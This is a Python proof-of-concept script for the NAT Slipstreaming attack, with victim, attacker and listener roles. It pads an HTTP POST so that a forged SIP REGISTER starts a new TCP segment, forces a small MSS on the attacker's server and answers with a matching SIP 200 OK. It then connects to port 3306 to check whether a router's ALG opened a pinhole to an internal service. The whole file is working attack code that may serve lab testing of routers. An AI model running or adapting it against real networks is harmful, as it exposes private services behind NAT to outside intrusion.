#!/usr/bin/python3
"""NAT Slipstreaming v1 shape (samy.pl/slipstream, alg-behaviour §3), with the kernel's own TCP segmentation.

victim:   python3 slipstream.py victim SERVER_IP   -- the "browser": one HTTP POST to SERVER_IP:5060 whose body
          padding puts a REGISTER naming the victim's inside address and port 3306 at the start of the second
          TCP segment (the attacker's server advertises MSS 536, so the kernel cuts the stream at byte 536).
attacker: python3 slipstream.py attacker BIND_IP PUBLIC_IP -- accepts the POST, answers the REGISTER with a
          matching "SIP/2.0 200 OK" (it wrote the REGISTER, so it knows Call-ID, CSeq and branch), then tries to
          connect to PUBLIC_IP:3306, the pinhole a vulnerable ALG would have opened.
listener: python3 slipstream.py listener BIND_IP   -- the victim's inside service on 3306: says if anything reached it.
"""
import socket
import sys
import time

MSS = 536
VICTIM_PORT = 3306


def register(victim_ip):
    return (
        f"REGISTER sip:203.0.113.20;transport=TCP SIP/2.0\r\n"
        f"Via: SIP/2.0/TCP {victim_ip}:5060;branch=z9hG4bK-slip\r\n"
        f"From: <sip:x@203.0.113.20>;tag=1\r\n"
        f"To: <sip:x@203.0.113.20>\r\n"
        f"Call-ID: slipstream\r\n"
        f"CSeq: 1 REGISTER\r\n"
        f"Contact: <sip:x@{victim_ip}:{VICTIM_PORT};transport=TCP>\r\n"
        f"Expires: 3600\r\n"
        f"Max-Forwards: 70\r\n"
        f"Content-Length: 0\r\n\r\n"
    ).encode()


def victim(server_ip):
    local_ip = "192.168.1.10"
    head = f"POST /slip HTTP/1.1\r\nHost: {server_ip}:5060\r\nContent-Type: text/plain\r\nContent-Length: ".encode()
    sip = register(local_ip)
    with socket.create_connection((server_ip, 5060)) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        # The segment size the kernel really uses (the peer's MSS less TCP options such as timestamps).
        segment = s.getsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG)
        # head + length digits + CRLFCRLF + padding must fill the first segment exactly.
        for digits in (3, 4):
            padding = segment - len(head) - digits - 4
            body = b"A" * padding + sip
            if len(str(len(body))) == digits:
                break
        request = head + str(len(body)).encode() + b"\r\n\r\n" + body
        print("victim: segment size", segment, "REGISTER at stream offset", len(request) - len(sip))
        s.sendall(request)
        s.settimeout(5)
        try:
            print("victim got:", s.recv(4096)[:60])
        except socket.timeout:
            print("victim: no answer")
        time.sleep(3)


def attacker(bind_ip, public_ip):
    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, MSS)
        listener.bind((bind_ip, 5060))
        listener.listen(1)
        conn, peer = listener.accept()
        with conn:
            data = b""
            conn.settimeout(5)
            while b"Content-Length: 0\r\n\r\n" not in data:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
            print("attacker read", len(data), "bytes from", peer)
            ok = (
                "SIP/2.0 200 OK\r\n"
                f"Via: SIP/2.0/TCP {public_ip}:5060;branch=z9hG4bK-slip\r\n"
                "From: <sip:x@203.0.113.20>;tag=1\r\n"
                "To: <sip:x@203.0.113.20>;tag=2\r\n"
                "Call-ID: slipstream\r\n"
                "CSeq: 1 REGISTER\r\n"
                f"Contact: <sip:x@{public_ip}:{VICTIM_PORT};transport=TCP>;expires=3600\r\n"
                "Content-Length: 0\r\n\r\n"
            ).encode()
            conn.sendall(ok)
            time.sleep(0.5)
            try:
                with socket.create_connection((public_ip, VICTIM_PORT), timeout=3) as probe:
                    print(f"attacker: CONNECTED to {public_ip}:{VICTIM_PORT} -- the pinhole was open")
            except OSError as error:
                print(f"attacker: connect to {public_ip}:{VICTIM_PORT} failed: {error}")
            time.sleep(0.5)


def listener(bind_ip):
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((bind_ip, VICTIM_PORT))
        s.listen(1)
        s.settimeout(10)
        try:
            conn, peer = s.accept()
            print("listener: connection from", peer)
            conn.close()
        except socket.timeout:
            print("listener: nothing reached port", VICTIM_PORT)


if __name__ == "__main__":
    role = sys.argv[1]
    if role == "victim":
        victim(sys.argv[2])
    elif role == "attacker":
        attacker(sys.argv[2], sys.argv[3])
    else:
        listener(sys.argv[2])
